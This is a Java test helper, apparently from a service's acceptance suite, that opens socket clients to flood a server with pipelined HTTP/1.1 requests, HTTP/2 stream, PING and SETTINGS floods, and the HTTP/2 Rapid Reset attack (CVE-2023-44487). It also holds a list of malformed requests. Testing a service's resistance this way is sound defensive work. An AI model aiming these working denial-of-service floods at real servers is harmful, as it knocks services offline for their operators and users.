package dev.percpu.acceptance;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Clients of attacks. Each reads nothing. A connection that the service closes or refuses is no error. */
final class Attack implements AutoCloseable {
    static final String GET = "GET /api/rseq HTTP/1.1\r\nHost: x\r\n\r\n";

    /** Streams and frames of one part of a flood. */
    private static final int PART = 1_000;

    static final List<String> MALFORMED = List.of(
            "\0GARBAGE\r\n\r\n",
            "GET / HTTP/9.9\r\n\r\n",
            "GET / HTTP/1.1\r\n\r\n",
            "GET /%zz HTTP/1.1\r\nHost: x\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: [::\r\n\r\n",
            "GET / HTTP/1.1\r\nHost x\r\n: y\r\n\r\n",
            "POST /api/rseq HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
            "POST /api/rseq HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nabc",
            "\u0016\u0003\u0001\0\u00c8\u0001\0\0\u00c4\u0003\u0003" + "x".repeat(190),
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "x".repeat(200));

    /** What the clients of a flood send. */
    enum Flood {
        PIPELINED,
        /** More streams than are allowed, without a window for responses. */
        STREAMS,
        /** Streams that the client resets at once (CVE-2023-44487). */
        RAPID_RESETS,
        PINGS,
        SETTINGS;

        private void send(OutputStream out) throws IOException {
            out.write(this == PIPELINED ? new byte[0] : preface());
            for (int part = 0; part < Integer.MAX_VALUE / (2 * PART); part++) {
                out.write(part(part));
            }
        }

        private byte[] part(int before) {
            return switch (this) {
                case PIPELINED -> bytes(GET.repeat(PART));
                case STREAMS -> streams(before, false);
                case RAPID_RESETS -> streams(before, true);
                case PINGS -> repeat(frame(6, 0, 0, new byte[8]));
                case SETTINGS -> repeat(noWindow());
            };
        }
    }

    private final List<Socket> sockets = new ArrayList<>();
    private final List<Thread> clients = new ArrayList<>();

    private Attack() {}

    /** Starts clients that send without an end, until {@link #close}. */
    static Attack start(URI port, Flood flood, int clients) throws IOException {
        Attack attack = new Attack();
        for (int i = 0; i < clients; i++) {
            Socket socket = connect(port);
            attack.sockets.add(socket);
            attack.clients.add(Thread.ofVirtual().start(() -> {
                try {
                    flood.send(new BufferedOutputStream(socket.getOutputStream()));
                } catch (IOException e) {
                    // The test, or the service, has closed the connection.
                }
            }));
        }
        return attack;
    }

    static Socket connect(URI port) throws IOException {
        Socket socket = new Socket(port.getHost(), port.getPort());
        socket.setSoTimeout(5_000);
        return socket;
    }

    /** Sends bytes from a new connection, then closes it. */
    static void send(URI port, String text) throws IOException {
        try (Socket socket = connect(port)) {
            write(socket, text);
        }
    }

    /** Sends bytes from a new connection, then resets it. */
    static void sendAndReset(URI port, String text) throws IOException {
        try (Socket socket = connect(port)) {
            write(socket, text);
            socket.setSoLinger(true, 0);
        }
    }

    /** Opens connections that send a request each and stay open. */
    static List<Socket> open(URI port, int count) throws IOException {
        List<Socket> sockets = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Socket socket = connect(port);
            sockets.add(socket);
            write(socket, GET);
        }
        return sockets;
    }

    /** Sends 20 pipelined requests and a part of the next one. */
    static void endWithinPipelinedRequest(URI port) throws IOException {
        send(port, GET.repeat(20) + "POST /api/rseq HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nabc");
    }

    private static void write(Socket socket, String text) throws IOException {
        try {
            socket.getOutputStream().write(bytes(text));
        } catch (SocketException e) {
            // The service has closed the connection.
        }
    }

    /** Returns whether the service has closed all connections, after at most some time. */
    boolean isClosedWithin(Duration time) throws InterruptedException {
        Deadline deadline = Deadline.in(time);
        for (Thread client : clients) {
            while (client.isAlive() && !deadline.passed()) {
                deadline.pause();
            }
        }
        return clients.stream().noneMatch(Thread::isAlive);
    }

    /** Closes the connections, and waits until all clients have ended. */
    @Override
    public void close() throws IOException {
        for (Socket socket : sockets) {
            socket.close();
        }
        for (Thread client : clients) {
            try {
                client.join();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] preface() {
        byte[] start = bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        byte[] settings = noWindow();
        return ByteBuffer.allocate(start.length + settings.length)
                .put(start)
                .put(settings)
                .array();
    }

    /** SETTINGS with SETTINGS_INITIAL_WINDOW_SIZE 0. */
    private static byte[] noWindow() {
        return frame(4, 0, 0, new byte[] {0, 4, 0, 0, 0, 0});
    }

    /** HPACK: GET and http from the static table, then the literal values of :path and :authority. */
    private static byte[] headers() {
        byte[] path = bytes("/api/rseq");
        return ByteBuffer.allocate(path.length + 7)
                .put(new byte[] {(byte) 0x82, (byte) 0x86, 4, (byte) path.length})
                .put(path)
                .put(new byte[] {1, 1, 'x'})
                .array();
    }

    private static byte[] streams(int part, boolean reset) {
        byte[] headers = headers();
        byte[] cancel = {0, 0, 0, 8};
        ByteBuffer frames = ByteBuffer.allocate(PART * (9 + headers.length + 9 + cancel.length));
        for (int i = 0; i < PART; i++) {
            int stream = 2 * (part * PART + i) + 1;
            frames.put(frame(1, 5, stream, headers)); // HEADERS with END_STREAM and END_HEADERS
            if (reset) {
                frames.put(frame(3, 0, stream, cancel));
            }
        }
        return Arrays.copyOf(frames.array(), frames.position());
    }

    private static byte[] repeat(byte[] frame) {
        ByteBuffer frames = ByteBuffer.allocate(PART * frame.length);
        while (frames.hasRemaining()) {
            frames.put(frame);
        }
        return frames.array();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
